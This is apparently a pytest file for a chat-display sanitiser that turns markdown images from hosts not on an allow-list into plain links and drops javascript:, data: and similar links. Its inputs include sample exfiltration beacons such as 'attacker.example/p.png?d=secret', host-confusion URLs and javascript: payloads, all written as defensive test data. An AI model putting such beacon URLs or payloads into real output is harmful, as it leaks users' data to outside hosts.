"""display.safe_markdown: stored text shown without loading anything (the browser test
tests/browser/test_remote_content.py counts requests; these check the rewriting)."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from chatfeedback.display import image_host, plain, safe_markdown

HOSTS = ["images.example.org"]


def rendered(text: str) -> str:
    """HTML as a CommonMark renderer draws it (html as text, as Streamlit shows it)."""
    md = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True
    return md.render(text)


@pytest.mark.parametrize(("text", "expected"), [
    ("Hi ![chart](https://attacker.example/p.png?d=secret) there",
     ("Hi [chart (image from attacker.example, not loaded)]"
     "(https://attacker.example/p.png?d=secret) there")),
    ("![](http://a.example/x.png)", "[image from a.example, not loaded](http://a.example/x.png)"),
    ("![x][ref]\n\n[ref]: https://evil.example/r.png",  # reference-style
     "[x (image from evil.example, not loaded)][ref]\n\n[ref]: https://evil.example/r.png"),
    ("![x]\n\n[x]: https://evil.example/r.png",  # shortcut reference
     "[x (image from evil.example, not loaded)]\n\n[x]: https://evil.example/r.png"),
    ("![nested [brackets] alt](http://evil.example/n.png)",
     "[nested [brackets] alt (image from evil.example, not loaded)](http://evil.example/n.png)"),
    ("[![badge](https://img.example/b.svg)](https://github.com/x)",  # image in a link
     "[badge (image from img.example, not loaded)](https://github.com/x)"),
    ("> a ![multi\n> line](http://evil.example/q.png) end",
     "> a [multi\n> line (image from evil.example, not loaded)](http://evil.example/q.png) end"),
    ("| a | ![t](http://evil.example/t.png) |\n|---|---|\n| `c` | d |",
     ("| a | [t (image from evil.example, not loaded)](http://evil.example/t.png) |\n"
     "|---|---|\n| `c` | d |")),
    ("x[^1]\n\n[^1]: note ![f](http://evil.example/f.png)",  # a footnote
     "x[^1]\n\n[^1]: note [f (image from evil.example, not loaded)](http://evil.example/f.png)"),
    ("![data](data:image/png;base64,AAAA)", ("data (image from data:image/png;base64,AAAA, "
     "not loaded)")),
    ("![rel](/dashboard)", "rel (image from /dashboard, not loaded)"),
    (("[click](javascript:alert(1)) <javascript:alert(2)> [rel](/x) [ok](https://ok.example) "
     "<https://auto.example> <me@mail.example>"),
     ("click \\<javascript:alert(2)> rel [ok](https://ok.example) <https://auto.example> "
     "<me@mail.example>")),
    ("`![x](http://evil.example/a.png)`\n\n```\n![y](http://evil.example/b.png)\n```",
     "`![x](http://evil.example/a.png)`\n\n```\n![y](http://evil.example/b.png)\n```"),
    ("![ok](https://images.example.org/a.png) ![no](https://images.example.org.evil.example/b)",
     ("![ok](https://images.example.org/a.png) [no (image from images.example.org.evil.example,"
     " not loaded)](https://images.example.org.evil.example/b)")),
    ("No markup at all: *emphasis* only.", "No markup at all: *emphasis* only."),
])
def test_rewrites(text, expected):
    assert safe_markdown(text, HOSTS) == expected


@pytest.mark.parametrize("text", [
    "![a](http://evil.example/a.png)",
    "![a](//evil.example/a.png)",
    "![a](http://images.example.org\\@evil.example/a.png)",  # a browser goes to evil.example
    "![a](http://images.example.org@evil.example/a.png)",
    "![a](http://images.example.org%2eevil.example/a.png)",
    "\\\\![a](http://evil.example/a.png)",  # an escaped backslash, then an image
    "- x\n  1. ![a](http://evil.example/a.png)\n\n     > ![b](http://evil.example/b.png)",
    "# ![h](http://evil.example/h.png)\n\nSetext ![s](http://evil.example/s.png)\n===",
    ("[x](http://a.example \"![t](http://evil.example/t.png)\") ![![in](http://evil.example/i)]"
    "(http://evil.example/o)"),
    "![a](http://evil.example/a.png",  # unfinished while streaming: escaped anyway
    "[[[[[[[[[[[[[[[[[[[[[[[[[[![deep](http://evil.example/d.png)]]]]]]]]]]]]]]]]]]]]]]]]]]",
    "<img src=\"http://evil.example/h.png\">",
    "*" * 30 + "![e](http://evil.example/e.png)" + "*" * 30,
])
def test_nothing_disallowed_is_an_image(text):
    shown = rendered(safe_markdown(text, HOSTS))
    assert "<img" not in shown, shown


def test_allowed_hosts_keep_their_images_and_only_them():
    text = "![a](https://images.example.org/a.png) ![b](https://other.example/b.png)"
    shown = rendered(safe_markdown(text, HOSTS))
    assert shown.count("<img") == 1 and 'src="https://images.example.org/a.png"' in shown
    assert rendered(safe_markdown(text)).count("<img") == 0  # nothing allowed by default
    assert safe_markdown(text, ["IMAGES.example.org"]) == safe_markdown(text, HOSTS)


def test_links_work_for_http_https_and_mailto_only():
    text = ("[a](https://a.example) [b](http://b.example) [c](mailto:c@c.example) "
            "[d](javascript:alert(1)) [e](data:text/html,x) [f](ftp://f.example) [g](#top)")
    shown = rendered(safe_markdown(text))
    assert shown.count("<a ") == 3
    for gone in ("javascript", "data:", "ftp:", "#top"):
        assert f'href="{gone}' not in shown
    assert all(word in shown for word in ("d", "e", "f", "g"))  # their text stays


def test_image_host():
    assert image_host("https://Images.Example.org:8443/a.png?x=1") == "images.example.org"
    assert image_host("http://[0:0::1]:8080/a.png") == image_host("http://[::1]/b") == "[::1]"
    for url in ("//x.example/a", "http://u@x.example/", "http://x.example\\@y/",
                "ftp://x.example/a", "http://[zz::1]/a", "http://[::1/a", "/a.png",
                "data:image/png,x"):
        assert image_host(url) is None, url


def test_an_ipv6_host_can_be_allowed_in_any_spelling():
    text = "![a](http://[2001:db8::1]/a.png) ![b](http://[::1]/b.png)"
    shown = rendered(safe_markdown(text, ["[2001:DB8:0::1]"]))
    assert shown.count("<img") == 1 and 'src="http://[2001:db8::1]/a.png"' in shown
    assert "image from [::1], not loaded" in shown


def test_plain_shows_text_as_written():
    for text in ("![x](http://evil.example/a.png)", "# not a heading", "1. not a list",
                 "*not emphasis* `not code` <b>not html</b> a & b", "- not an item"):
        shown = rendered(plain(text))
        assert "<img" not in shown and "<em>" not in shown and "<code>" not in shown
        assert "<h1>" not in shown and "<li>" not in shown and "<b>" not in shown
    assert plain("llama3:8b-q4.1") == "llama3:8b-q4.1"  # nothing to escape stays as is
